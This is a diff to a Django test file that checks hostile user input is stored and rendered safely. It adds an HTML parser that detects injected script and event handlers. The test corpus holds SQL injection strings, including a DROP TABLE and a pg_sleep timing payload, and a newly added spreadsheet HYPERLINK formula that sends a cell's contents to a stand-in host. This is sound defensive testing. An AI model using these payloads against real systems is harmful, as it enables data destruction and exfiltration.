@@ -10,7 +10,9 @@ intended, not silent loss.
 """
 
 import re
+import unicodedata
 from dataclasses import dataclass
+from html.parser import HTMLParser
 
 from django.utils.html import escape
 
@@ -36,6 +38,7 @@ CORPUS = [
     Hostile("sql-quote", "x' OR '1'='1"),
     Hostile("sql-drop", "Robert'); DROP TABLE organisations_organisation;--"),
     Hostile("sql-sleep", "1; SELECT pg_sleep(5); --"),
+    Hostile("spreadsheet-formula", '=HYPERLINK("http://example.invalid/?d="&A1;"Klicka här")'),
     Hostile("like-wildcards", "100% _under_ back\\slash"),
     Hostile("control-characters", "Nämnd\x07med\x1b[31mkontroll\x7ftecken"),
     Hostile("rtl-override", "Nämnd \u202egnp.exe\u202c slut"),
@@ -43,7 +46,8 @@ CORPUS = [
     Hostile("combining-and-emoji", "Ha\u0308ndelse 👩🏽‍💻 ﷽"),
     Hostile("line-breaks", "rad ett\nrad två\r\nrad tre"),
     Hostile("nul-byte", "Nämnd\x00efter"),
-    Hostile("very-long", "Lång text om förebyggande arbete. " * 300),
+    # 10,199 characters: over most limits (refused with a form error), under a chapter body's (stored whole).
+    Hostile("very-long", ("Lång text om förebyggande arbete. " * 300).strip()),
 ]
 MARKUP = [h for h in CORPUS if h.markup]
 NUL_ERROR = "Null-tecken är inte tillåtna."
@@ -65,10 +69,50 @@ def form_errors(response) -> dict:
     return {}
 
 
+class _MarkupScanner(HTMLParser):
+    """Collects what a browser would run: inline <script>, on…= attributes, javascript: links."""
+
+    def __init__(self):
+        super().__init__(convert_charrefs=True)
+        self.found = []
+
+    def handle_starttag(self, tag, attrs):
+        names = dict(attrs)
+        if tag == "script" and "src" not in names and names.get("type") != "application/json":
+            self.found.append("inline <script>")
+        for name, value in attrs:
+            if name.startswith("on"):
+                self.found.append(f"event-handler attribute {name}= on <{tag}>")
+            link = re.sub(r"[\s\x00-\x1f]", "", value or "").lower()
+            if name in ("href", "src", "action", "formaction") and link.startswith("javascript:"):
+                self.found.append(f"javascript: URL in {name}= on <{tag}>")
+            if name == "srcdoc":
+                self.found.append(f"srcdoc= on <{tag}>")
+
+    handle_startendtag = handle_starttag
+
+
+def injected_markup(html: str) -> list[str]:
+    """What in `html` would run script: a parser's view, so escaped text inside attributes is not flagged."""
+    scanner = _MarkupScanner()
+    scanner.feed(html)
+    scanner.close()
+    return scanner.found
+
+
+def shown_escaped(html: str, value: str) -> bool:
+    """Every line of `value` appears escaped in `html` (templates may join lines with <br> or <p>)."""
+    lines = [line for line in re.split(r"\r\n|\r|\n", value) if line]
+    # Django's truncatechars composes characters (NFC): "a" + combining diaeresis becomes "ä", same look.
+    return all(escape(line) in html or escape(unicodedata.normalize("NFC", line)) in html for line in lines)
+
+
 def assert_rendered_safely(html: str, value: str, *, must_contain=True):
     """The value appears escaped, never raw where it could become markup, and adds no inline script."""
     if must_contain and "\x00" not in value:
-        assert escape(value) in html, "the value is not shown (or shown changed) on the page"
+        assert shown_escaped(html, value), "the value is not shown (or shown changed) on the page"
+    found = injected_markup(html)
+    assert not found, f"the page contains script that the template did not write: {found}"
     if any(c in value for c in "<>\"'"):
         assert value not in html, "the value appears unescaped in the HTML"
     assert not _INLINE_SCRIPT.search(html), "the page contains an inline <script>"
